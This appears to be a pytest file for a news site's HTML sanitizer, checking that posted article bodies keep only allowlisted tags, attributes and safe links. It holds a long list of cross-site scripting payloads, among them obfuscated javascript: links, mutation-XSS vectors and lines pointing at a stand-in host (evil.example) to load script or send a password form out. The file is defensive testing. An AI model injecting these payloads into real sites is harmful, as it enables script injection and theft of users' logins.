"""Promise IN-1: whatever is posted as a body, what is kept can run nothing."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from news.body import BodyRefusedError, clean_body
from news.body.rules import KEPT

ATTRIBUTES = {
    "a": {"href", "title"},
    "figure": {"class", "data-photo-id", "data-use"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}

PAYLOADS = [
    # scripts, whole or in pieces
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xml><script>alert(1)</script></xml>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x onerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>chữ</p>",
    "<p onmouseover='alert(1)' ONFOCUS=alert(1) tabindex=0 autofocus>chữ</p>",
    "<a href=/x onmouseenter=alert(1)>chữ</a>",
    "<table onmouseover=alert(1)><tr><td onclick=alert(1)>ô</table>",
    "<figure class=photo data-photo-id=1 onclick=alert(1)></figure>",
    "<figure class='photo' data-photo-id='1' data-use='\" onclick=alert(1) x=\"'></figure>",
    "<figure class=photo data-photo-id='1\" onload=\"alert(1)'></figure>",
    "<details open ontoggle=alert(1)>chữ</details>",
    "<marquee onstart=alert(1)>chữ</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>1",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div style='animation-name:x' onanimationstart=alert(1)>chữ</div>",
    "<p popover onbeforetoggle=alert(1)>chữ</p>",
    # links
    "<a href='javascript:alert(1)'>chữ</a>",
    "<a href='JaVaScRiPt:alert(1)'>chữ</a>",
    "<a href=' javascript:alert(1)'>chữ</a>",
    "<a href='java\tscript:alert(1)'>chữ</a>",
    "<a href='java\nscript:alert(1)'>chữ</a>",
    "<a href='&#106;avascript:alert(1)'>chữ</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>chữ</a>",
    "<a href='javascript&colon;alert(1)'>chữ</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>chữ</a>",
    "<a href='\x01javascript:alert(1)'>chữ</a>",
    "<a href='java\x00script:alert(1)'>chữ</a>",
    "<a href='\u200bjavascript:alert(1)'>chữ</a>",
    "<a href='java\u00adscript:alert(1)'>chữ</a>",
    "<a href='java\u200bscript:alert(1)'>chữ</a>",
    "<a href='javascript\u200b:alert(1)'>chữ</a>",
    "<a href='\ufeffjavascript:alert(1)'>chữ</a>",
    "<a href='\u00a0javascript:alert(1)'>chữ</a>",
    "<a href='vbscript:msgbox(1)'>chữ</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>chữ</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>chữ</a>",
    "<a href='blob:https://x/1'>chữ</a>",
    "<a href='file:///etc/passwd'>chữ</a>",
    "<a href='feed:javascript:alert(1)'>chữ</a>",
    "<a href='view-source:javascript:alert(1)'>chữ</a>",
    "<a href='//evil.example'>chữ</a>",
    "<a href='/\\evil.example'>chữ</a>",
    "<a href='\\\\evil.example'>chữ</a>",
    "<a href='/\t/evil.example'>chữ</a>",
    "<a href='/\u200b/evil.example'>chữ</a>",
    "<a xlink:href='javascript:alert(1)'>chữ</a>",
    "<a href=/x ping=//evil.example>chữ</a>",
    "<a href=/x target=_blank rel=opener>chữ</a>",
    "<svg><a xlink:href='javascript:alert(1)'><text>chữ</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>chữ</a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>chữ</maction></math>",
    "<map><area href='javascript:alert(1)'></map>",
    # styles
    "<style>*{background:url(//evil.example)}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<p style='background:url(javascript:alert(1))'>chữ</p>",
    "<p style='position:fixed;inset:0'>chữ</p>",
    "<p class='admin-button' id=content>chữ</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # frames, objects, forms, page-wide elements
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>gửi</button></form>",
    "<portal src=//evil.example></portal>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)></slot>",
    # mutation: markup that changes its meaning when parsed again
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>",
    "<select><template><style><!--</select><img src=x onerror=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<a title='\"><img src=x onerror=alert(1)>' href=/x>chữ</a>",
    "<a title='&quot; onmouseover=alert(1) x=&quot;' href=/x>chữ</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<b title='a>b' onclick=alert(1)>chữ</b>",
    "<b/onclick=alert(1)>chữ</b>",
    '<b "<b onclick=alert(1)>chữ</b>',
    "<table><td><figure class=photo data-photo-id=1><svg onload=alert(1)></figure></table>",
    "<h1><h1 onclick=alert(1)><svg/onload=alert(1)>",
    "<q cite=javascript:alert(1)>chữ</q>",
    "<blockquote cite=javascript:alert(1)>chữ</blockquote>",
    "<td background=javascript:alert(1)>ô</td>",
    "<p contenteditable spellcheck data-x=1 is=x-y>chữ</p>",
    "<x-element onclick=alert(1)>chữ</x-element>",
]


class Elements(HTMLParser):
    """The start tags of a piece of HTML, and all that is neither tag nor text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("wrapping", ["{}", "<p>trước {} sau</p>", "<table><tr><td>{}</td></tr></table>"])
def test_only_what_the_lists_allow_is_kept(payload, wrapping):
    html = clean_body(wrapping.format(payload)).html

    elements = Elements(html)
    assert elements.others == []
    for tag, attributes in elements.found:
        assert tag in KEPT
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        assert attributes.get("class", "photo") == "photo"
        assert is_harmless(attributes.get("href", "/"))
    assert clean_body(html).html == html


def is_harmless(href: str) -> bool:
    bare = "".join(letter for letter in href if letter.isprintable() and not letter.isspace())
    parts = urlsplit(bare.replace("\\", "/"))
    return parts.scheme in {"http", "https", "mailto", "tel"} or not (parts.scheme or parts.netloc)


def test_the_words_around_an_attack_are_kept():
    assert clean_body("<p onclick=alert(1)>Trước <script>alert(1)</script>sau</p>").html == "<p>Trước sau</p>"


@pytest.mark.parametrize("bad", ["<script>alert(1)</script>", "<p onclick=alert(1)>chữ</p>"])
def test_text_that_shows_code_stays_text(bad):
    shown = bad.replace("<", "&lt;").replace(">", "&gt;")

    assert clean_body(f"<p>{shown}</p>").html == f"<p>{shown}</p>"


@pytest.mark.parametrize("unit", ["<ul><li>a", "<blockquote>", "<table><tr><td>"])
def test_a_body_nested_without_end_is_refused_with_a_sentence(unit):
    with pytest.raises(BodyRefusedError, match="Nội dung lồng nhau quá 60 lớp"):
        clean_body(unit * 1000)


def test_formatting_that_would_multiply_does_not():
    html = "".join(f"<p><b id={number}>chữ" for number in range(3000))

    assert len(clean_body(html).html) < 10 * len(html)
